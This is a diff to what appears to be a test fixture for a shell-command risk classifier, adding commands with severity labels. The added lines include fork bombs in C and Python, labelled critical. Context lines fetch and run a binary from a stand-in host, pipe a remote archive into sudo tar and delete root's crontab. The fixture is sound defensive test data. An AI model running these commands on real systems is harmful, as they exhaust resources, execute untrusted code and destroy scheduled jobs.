@@ -1238,6 +1238,9 @@ ROUND2 = [
     ("aria2c https://x.example/bin -o bin && ./bin", CRITICAL),
     ("curl -sL https://x.example/a.tgz | sudo tar xz -C /usr/local/bin tool", HIGH),
     ("crontab -u root -r", HIGH),
+    ("gcc -x c - <<< 'main(){for(;;)fork();}' && ./a.out", CRITICAL),
+    ("python3 -c 'import os; [os.fork() for _ in range(100000)]'", CRITICAL),
+    ("ulimit -u unlimited", MODERATE),
 ]
 ROUND2_BENIGN = [
     ("sudo apt-get remove -s sudo", SAFE),
@@ -1283,6 +1286,9 @@ ROUND2_BENIGN = [
     ("git branch -D feature", MODERATE),
     ("curl -sL https://x.example/a.tgz | tar xz -C ~/tools", MODERATE),
     ("tar xzf a.tgz -C /usr/local/bin", MODERATE),
+    ("ulimit -n 4096", SAFE),
+    ("ulimit -a", SAFE),
+    ("gcc -o hello hello.c", MODERATE),
 ]
 
 DANGEROUS = [
